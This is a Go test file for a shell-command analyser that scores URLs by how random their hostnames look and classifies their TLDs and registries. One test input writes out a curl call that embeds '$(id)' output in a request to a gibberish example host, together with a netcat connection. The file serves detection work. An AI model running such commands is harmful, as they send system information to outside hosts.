package shell_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/donapi/donapi/internal/shell"
)

func TestFeatures(t *testing.T) {
	got := shell.FeaturesOf("https://user@abcaab12.Shop.example.com:8443/path?q")
	want := shell.URLFeatures{
		Host: "abcaab12.shop.example.com", Label: "abcaab12", Length: 8, Entropy: 2.156, Vowels: 0.5, Consonants: 0.5, Repeated: 0.375, Digits: 0.25,
		Gibberish: got.Gibberish, TLD: shell.TLDGeneric,
	}
	if diff := cmp.Diff(want, got, cmpopts.EquateApprox(0, 0.001)); diff != "" {
		t.Error(diff)
	}
	for host, tld := range map[string]shell.TLDType{
		"http://10.0.0.1/x": shell.TLDNone, "localhost": shell.TLDSpecial, "a.invalid": shell.TLDSpecial, "x.io": shell.TLDCountry, "x.xyz": shell.TLDNew,
		"dns://*.x.org": shell.TLDGeneric, "": shell.TLDNone, "http://[::1]:80/": shell.TLDNone, "...": shell.TLDNone,
	} {
		if got := shell.FeaturesOf(host).TLD; got != tld {
			t.Errorf("%s: %s, want %s", host, got, tld)
		}
	}
}

// TestScore separates readable hosts from made-up ones.
func TestScore(t *testing.T) {
	for _, u := range []string{
		"https://registry.npmjs.org/a", "https://github.com/a/b", "https://downloads.example.com", "https://objects.githubusercontent.com", "https://api.weather.example.org",
		"https://documentation.example.net", "https://playwright.azureedge.net", "https://static.rust-lang.org", "https://fonts.googleapis.com",
	} {
		if s, _ := shell.FeaturesOf(u).Score(); s >= 0.4 {
			t.Errorf("%s scores %.2f", u, s)
		}
	}
	for _, u := range []string{
		"http://c8x1q0z4v7k2j9w5r3t6.example.com", "http://cq7f2hvtc0000bx6g9kzrwpdyyo8m1.example.site", "https://x9v2k7qz1w8r4t6p.example.io",
	} {
		if s, f := shell.FeaturesOf(u).Score(); s < 0.7 {
			t.Errorf("%s scores %.2f: %v", u, s, f)
		}
	}
}

func TestURLs(t *testing.T) {
	r := reader(t)
	tr, _, _ := r.Read(source("curl https://registry.npmjs.org/x; curl http://c8x1q0z4v7k2j9w5r3t6.example.com/$(id); curl https://registry.npmjs.org/x; nc 10.1.2.3 80"))
	urls := r.URLs(tr)
	var got []string
	for _, u := range urls {
		got = append(got, u.Text+" "+u.Class)
	}
	want := []string{"https://registry.npmjs.org/x registry", "http://c8x1q0z4v7k2j9w5r3t6.example.com/* ", "tcp://10.1.2.3:80 private"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Fatal(diff)
	}
	if urls[0].Score != 0 || urls[1].Score < 0.7 || urls[2].Score != 0 {
		t.Errorf("scores %v %v %v", urls[0].Score, urls[1].Score, urls[2].Score)
	}
}
